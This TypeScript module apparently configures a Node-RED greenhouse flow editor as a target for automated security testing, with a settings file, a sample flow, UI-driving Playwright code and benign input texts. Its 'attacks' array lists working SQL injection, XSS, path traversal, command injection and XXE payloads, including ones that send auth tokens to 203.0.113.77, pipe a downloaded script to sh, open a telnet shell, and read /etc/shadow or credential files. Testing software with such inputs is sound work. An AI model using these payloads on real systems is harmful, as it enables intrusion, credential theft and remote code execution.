// biome-ignore-all lint/suspicious/noTemplateCurlyInString: attacks hold such text literally.
import { type Application, confinedNode } from "../application.ts";

const settings = (port: number, bcrypt: string) => `
const { hashSync } = require(${JSON.stringify(bcrypt)});
module.exports = {
  uiHost: "127.0.0.1",
  uiPort: ${port},
  userDir: __dirname,
  flowFile: "flows.json",
  credentialSecret: "greenhouse",
  telemetry: { enabled: false, updateNotification: false },
  externalModules: { autoInstall: false, palette: { allowInstall: false }, modules: { allowInstall: false } },
  nodesExcludes: ["90-exec.js", "10-file.js", "10-watch.js", "31-tcpin.js", "32-udp.js", "05-tls.js", "10-mqtt.js", "22-websocket.js"],
  adminAuth: { type: "credentials", users: [{ username: "grower", password: hashSync("tomato-vine-9", 4), permissions: "*" }] },
  editorTheme: { tours: false, projects: { enabled: false }, codeEditor: { lib: "ace" } },
  logging: { console: { level: "warn" } },
};
`;

const flows = [
  { id: "a1", type: "tab", label: "Greenhouse", disabled: false, info: "Reads the sensors and opens the vents." },
  { id: "a2", type: "tab", label: "Alarms", disabled: false, info: "" },
  {
    id: "b1",
    type: "inject",
    z: "a1",
    name: "every ten minutes",
    props: [{ p: "payload" }],
    repeat: "600",
    payload: "21.5",
    payloadType: "num",
    x: 180,
    y: 80,
    wires: [["b2"]],
  },
  {
    id: "b2",
    type: "function",
    z: "a1",
    name: "to Fahrenheit",
    func: "msg.payload = msg.payload * 9 / 5 + 32;\nreturn msg;",
    outputs: 1,
    x: 400,
    y: 80,
    wires: [["b3"]],
  },
  {
    id: "b3",
    type: "switch",
    z: "a1",
    name: "too warm?",
    property: "payload",
    propertyType: "msg",
    rules: [{ t: "gt", v: "77", vt: "num" }, { t: "else" }],
    outputs: 2,
    x: 600,
    y: 80,
    wires: [["b4"], ["b5"]],
  },
  {
    id: "b4",
    type: "change",
    z: "a1",
    name: "open the vent",
    rules: [{ t: "set", p: "payload", pt: "msg", to: "open", tot: "str" }],
    x: 420,
    y: 180,
    wires: [["b5"]],
  },
  {
    id: "b5",
    type: "debug",
    z: "a1",
    name: "log",
    active: true,
    tosidebar: true,
    complete: "payload",
    targetType: "msg",
    x: 620,
    y: 180,
    wires: [],
  },
  {
    id: "b6",
    type: "comment",
    z: "a1",
    name: "Bench 3 is the one with the seedlings",
    info: "Ask before changing it.",
    x: 240,
    y: 260,
    wires: [],
  },
  {
    id: "b7",
    type: "template",
    z: "a1",
    name: "report",
    field: "payload",
    fieldType: "msg",
    format: "handlebars",
    syntax: "mustache",
    template: "It is {{payload}} in bench 3.",
    x: 400,
    y: 340,
    wires: [["b5"]],
  },
  {
    id: "c1",
    type: "http in",
    z: "a2",
    name: "alarm hook",
    url: "/alarm",
    method: "post",
    x: 160,
    y: 80,
    wires: [["c2"]],
  },
  {
    id: "c2",
    type: "change",
    z: "a2",
    name: "thanks",
    rules: [{ t: "set", p: "payload", pt: "msg", to: "noted", tot: "str" }],
    x: 360,
    y: 80,
    wires: [["c3"]],
  },
  { id: "c3", type: "http response", z: "a2", name: "", statusCode: "200", x: 560, y: 80, wires: [] },
  {
    id: "c4",
    type: "inject",
    z: "a2",
    name: "drill",
    props: [{ p: "payload" }, { p: "topic", vt: "str" }],
    topic: "drill",
    payload: "frost",
    payloadType: "str",
    x: 160,
    y: 180,
    wires: [["c5"]],
  },
  {
    id: "c5",
    type: "delay",
    z: "a2",
    name: "a minute",
    pauseType: "delay",
    timeout: "1",
    timeoutUnits: "minutes",
    x: 360,
    y: 180,
    wires: [["c6"]],
  },
  {
    id: "c6",
    type: "debug",
    z: "a2",
    name: "alarm log",
    active: true,
    tosidebar: true,
    complete: "true",
    targetType: "full",
    x: 560,
    y: 180,
    wires: [],
  },
];

const opened = ".red-ui-tray:visible, .ui-dialog:visible";

/** A flow editor of a greenhouse's sensors; its visitors name and configure nodes, paste flows, keep some in the library, and deploy them. */
export const nodeRed: Application = {
  name: "node-red",
  packages: { npm: ["node-red@5.0.7"] },
  files: ({ installed, port }) => ({
    "settings.js": settings(port, `${installed}/node_modules/bcryptjs`),
    "flows.json": JSON.stringify(flows),
    "lib/flows/benches/bench3.json": JSON.stringify([{ ...flows[8], z: "", wires: [[]] }]),
  }),
  start: (at) => [...confinedNode(at, "node-red/red.js"), "--settings", "settings.js"],
  ready: "/",
  async enter(page, origin) {
    await page.goto(origin);
    await page.locator("#node-dialog-login-username").fill("grower");
    await page.locator("#node-dialog-login-password").fill("tomato-vine-9");
    await page.locator("#node-dialog-login-submit").click();
    await page.locator("#red-ui-header-button-deploy").waitFor();
  },
  pages: ["/", "/#flow/a1", "/#flow/a2", "/#flow/a1/edit/b6", "/#flow/a2/edit/c4", "/#node/b3", "/#node/c2"],
  // Menus, and what switches parts of the page on and off; their words differ by language, their addresses do not.
  avoid: /#$/,
  async reach(page, random) {
    await page.locator("#red-ui-workspace-chart").waitFor({ timeout: 8_000 });
    if ((await page.locator(opened).count()) === 0) {
      const choice = random.below(10);
      if (choice < 7) {
        const nodes = page.locator("#red-ui-workspace-chart .red-ui-flow-node:visible");
        await nodes.nth(random.below(await nodes.count())).dblclick({ timeout: 4_000, force: true });
      } else if (choice < 9) {
        await page.keyboard.press("Control+i");
      } else {
        await page.locator("#red-ui-workspace-chart").click({ position: { x: 700, y: 500 }, force: true });
        await page.keyboard.press("Control+a");
        await page.keyboard.press("Control+e");
        const library = page.locator("#red-ui-tab-red-ui-clipboard-dialog-export-tab-library-local");
        await library.click({ timeout: 2_000 }).catch(() => {});
      }
      await page.waitForTimeout(900);
    }
    // Two fields that nobody sees lie in every form, for the password managers.
    await page.locator("[id^=red-ui-trap]").evaluateAll((traps) => {
      for (const trap of traps) trap.remove();
    });
    const place = page.locator(opened).last();
    // Searching is done in the browser: it sends nothing.
    return (await place.count()) > 0 && random.chance(0.9) ? place : null;
  },
  async submit(page) {
    const confirm = page.locator(".red-ui-notification:visible button.primary");
    const dialog = page.locator(".ui-dialog:visible");
    if ((await dialog.count()) > 0) {
      // What is pasted is read at the next key.
      await page.keyboard.press("End");
      await page.waitForTimeout(400);
      const send = dialog.locator(".ui-dialog-buttonset .primary:visible").last();
      if ((await send.count()) > 0 && (await send.isEnabled())) await send.click({ timeout: 3_000 });
      await page.waitForTimeout(500);
      // A flow of that name is in the library already.
      if ((await confirm.count()) > 0) await confirm.first().click({ timeout: 2_000 });
      if ((await dialog.count()) > 0)
        await dialog.locator("button:not(.primary):visible").last().click({ timeout: 2_000 });
      // What was pasted hangs at the pointer until it is put down.
      else await page.mouse.click(640, 600);
    } else if ((await page.locator(".red-ui-tray:visible").count()) > 0) {
      await page.locator(".red-ui-tray-toolbar button.primary:visible").last().click({ timeout: 3_000 });
    } else return false;
    await page.waitForTimeout(700);
    const deploy = page.locator("#red-ui-header-button-deploy:not(.disabled)");
    if ((await deploy.count()) === 0) return true;
    await deploy.click({ timeout: 2_000 });
    await page.waitForTimeout(700);
    // Some nodes are not complete; that is how flows are while they are made.
    if ((await confirm.count()) > 0) await confirm.first().click({ timeout: 2_000 });
    await page.waitForTimeout(700);
    return true;
  },
  texts: {
    searches: [
      "inject",
      "bench 3",
      "too warm?",
      "debug",
      "http in",
      "function",
      "to Fahrenheit",
      "vent",
      "msg.payload",
      "flow:a1",
      "is:unused",
      "is:invalid",
      "type:switch",
      "°C",
      "frost alarm",
      "seedling's bench",
      "mqtt",
      "json",
      "join & split",
      "Gewächshaus",
      "arrosage",
      "温度",
      "delay 1m",
      "rate > 5/s",
      "template",
      "uses:b2",
    ],
    lines: [
      "bench 4",
      "every ten minutes (day)",
      "temperature °C",
      "too dry?",
      "sensors/greenhouse/+/humidity",
      "payload.soil[2].ph",
      "$round(payload * 9/5 + 32, 1)",
      "payload[0].value",
      "valve #2",
      "grower's override",
      "night & weekend",
      "Lüftung auf",
      "arrosage matin",
      "温室の温度",
      "≥ 28 °C",
      "topic = drill",
      "log (verbose)",
      "/alarm/frost",
      "/dev/ttyUSB1",
      "http://sensors.example:8080/api?bench=3&unit=c",
      "$sum(payload.litres)",
      "don't water",
      "50%",
      "TODO: calibrate",
      "pump; then valve",
      '{"open":true}',
      "2 min",
      "msg.topic",
      "heater → off",
      "🌱 seedlings",
    ],
    long: [
      '[{"id":"f1e0a7b2c3d40001","type":"inject","z":"","name":"drip test","props":[{"p":"payload"}],"repeat":"","payload":"3","payloadType":"num","x":200,"y":420,"wires":[["f1e0a7b2c3d40002"]]},{"id":"f1e0a7b2c3d40002","type":"debug","z":"","name":"drip log","active":true,"complete":"payload","targetType":"msg","x":400,"y":420,"wires":[]}]',
      '[{"id":"f1e0a7b2c3d40003","type":"comment","z":"","name":"Valve 2 sticks","info":"Don\'t open it twice within a minute; see the manual, p. 12 (\\"sluggish return\\").","x":240,"y":480,"wires":[]}]',
      '[{"id":"f1e0a7b2c3d40004","type":"function","z":"","name":"dew point","func":"const { t, rh } = msg.payload;\\nconst g = Math.log(rh / 100) + (17.62 * t) / (243.12 + t);\\nmsg.payload = (243.12 * g) / (17.62 - g);\\nreturn msg;","outputs":1,"x":260,"y":520,"wires":[[]]}]',
      '[{"id":"f1e0a7b2c3d40005","type":"template","z":"","name":"mail text","field":"payload","template":"<h2>{{topic}}</h2>\\n<p>It\'s {{payload.t}} &deg;C in {{payload.bench}}.</p>\\n{{#payload.alarm}}<b>Vent open!</b>{{/payload.alarm}}","x":260,"y":560,"wires":[[]]}]',
      '[{"id":"f1e0a7b2c3d40006","type":"change","z":"","name":"to litres","rules":[{"t":"set","p":"payload","pt":"msg","to":"$round(payload.pulses / 450, 2)","tot":"jsonata"}],"x":260,"y":600,"wires":[[]]}]',
      '[{"id":"f1e0a7b2c3d40007","type":"switch","z":"","name":"night?","property":"$fromMillis($millis(), \'[H]\')","propertyType":"jsonata","rules":[{"t":"btwn","v":"22","vt":"num","v2":"6","v2t":"num"}],"outputs":1,"x":260,"y":640,"wires":[[]]}]',
      '[{"id":"f1e0a7b2c3d40008","type":"http request","z":"","name":"forecast","method":"GET","ret":"obj","url":"https://weather.example/v1/forecast?lat=47.4&lon=8.5&hourly=temp,rh","x":260,"y":680,"wires":[[]]}]',
      "// keeps the last twelve readings of each bench\nconst seen = context.get('seen') || {};\nconst list = (seen[msg.topic] ||= []);\nlist.push(Number(msg.payload));\nif (list.length > 12) list.shift();\ncontext.set('seen', seen);\nreturn { ...msg, payload: list.reduce((a, b) => a + b, 0) / list.length };",
      "if (msg.payload.rh < 40 && !flow.get(\"night\")) {\n    node.status({ fill: 'blue', shape: 'dot', text: `watering ${msg.topic}` });\n    return [msg, null];\n}\nreturn [null, msg];",
      "insert into readings (bench, t, rh, taken_at) values ($1, $2, $3, now())\non conflict (bench, taken_at) do update set t = excluded.t;",
      "## Bench 3\n\nThe probe reads **0.4 °C** too high; it's corrected in `to Fahrenheit`. Don't replace it with the old one (\"the brown cable\").\n\n* calibrated: 2026-02-11\n* next: August",
      '{\n  "bench": 3,\n  "soil": [{"ph": 6.4, "ec": 1.8}, {"ph": 6.1, "ec": 2.0}],\n  "note": "moved the pots & re-wired the fan",\n  "ok": true\n}',
      "{{#benches}}\n<tr><td>{{name}}</td><td>{{t}} &deg;C</td><td>{{{chart}}}</td></tr>\n{{/benches}}\n{{^benches}}<tr><td colspan=3>No readings since 06:00</td></tr>{{/benches}}",
      '$map(payload[rh < 45], function($b) { $b.name & ": " & $formatNumber($b.rh, "0.0") & " %" })',
      "Frostwächter: bei < 2 °C Heizmatte ein, bei > 5 °C wieder aus (Hysterese 3 K). Nicht vergessen: Ventil 2 klemmt – »zweimal tippen«. Ablauf siehe http://wiki.example/gewaechshaus#frost",
      'curl -s -X POST -H \'Content-Type: application/json\' -d \'{"bench":3,"alarm":"frost"}\' http://nodered.example:1880/alarm\n\nis what the door contact sends; test it with that.',
      "温室メモ：ベンチ3の湿度センサーは夜に5%ほど低く出ます。給水は朝6時と夕方4時だけ（夏は3回）。",
    ],
  },
  attacks: [
    { class: "sql_injection", payload: "bench3'; UPDATE users SET role='admin' WHERE login='grower';-- " },
    { class: "sql_injection", payload: "21.5) UNION SELECT time,value,password FROM accounts WHERE (1=1" },
    {
      class: "sql_injection",
      payload: "humidity' AND 7104=(SELECT COUNT(*) FROM GENERATE_SERIES(1,9000000)) AND 'm'='m",
    },
    {
      class: "sql_injection",
      payload: 'drill" OR ""="" /*!50000UNION*/ SELECT 1,load_file(\'/etc/mysql/my.cnf\'),3-- -',
    },
    {
      class: "sql_injection",
      payload: "vent'||UTL_HTTP.REQUEST('http://203.0.113.77/'||(SELECT banner FROM v$version WHERE ROWNUM=1))||'",
    },
    {
      class: "sql_injection",
      payload:
        "77 AND (SELECT 9 FROM(SELECT COUNT(*),CONCAT((SELECT @@datadir),FLOOR(RAND(0)*2))x FROM information_schema.plugins GROUP BY x)a)",
    },
    { class: "xss", payload: "<img src=1 onerror=\"$.post('/flows',localStorage['auth-tokens'])\">" },
    { class: "xss", payload: "<script src=https://203.0.113.77/h.js></script>bench" },
    {
      class: "xss",
      payload:
        "log</span><svg><set onbegin=\"location='//203.0.113.77/?'+localStorage.getItem('auth-tokens')\" attributeName=y>",
    },
    {
      class: "xss",
      payload: '[manual](javascript&colon;alert(RED.settings.user))<a href="jAvAsCrIpT:alert(RED)">manual</a>',
    },
    { class: "xss", payload: "<body/onpageshow=\\u0061lert(document.domain)><textarea autofocus onfocusin=alert(7)>" },
    { class: "path_traversal", payload: "../../../../../../home/pi/.node-red/flows_cred.json" },
    { class: "path_traversal", payload: "benches/..%2f..%2f..%2fsettings.js" },
    { class: "path_traversal", payload: "/proc/self/root/../../../../etc/shadow" },
    { class: "path_traversal", payload: "..\\..\\..\\Users\\Public\\..\\..\\Windows\\System32\\config\\SAM" },
    {
      class: "command_injection",
      payload: "global.get('process').mainModule.require('child_process').exec('curl 203.0.113.77/m|sh')",
    },
    { class: "command_injection", payload: "open;busybox telnetd -l /bin/sh -p 4999 &" },
    {
      class: "command_injection",
      payload: '{{#with "s" as |string|}}{{#with "e"}}{{lookup string.sub "constructor"}}{{/with}}{{/with}}$(id)',
    },
    {
      class: "command_injection",
      payload:
        "this.constructor.constructor(\"return process\")().binding('spawn_sync').spawn({file:'/bin/sh',args:['sh','-c','id>/tmp/o']})",
    },
    {
      class: "xxe",
      payload:
        '<!DOCTYPE reading [<!ENTITY % a SYSTEM "php://filter/read=convert.base64-encode/resource=/etc/passwd"><!ENTITY b "%a;">]><reading bench="3">&b;</reading>',
    },
  ],
};
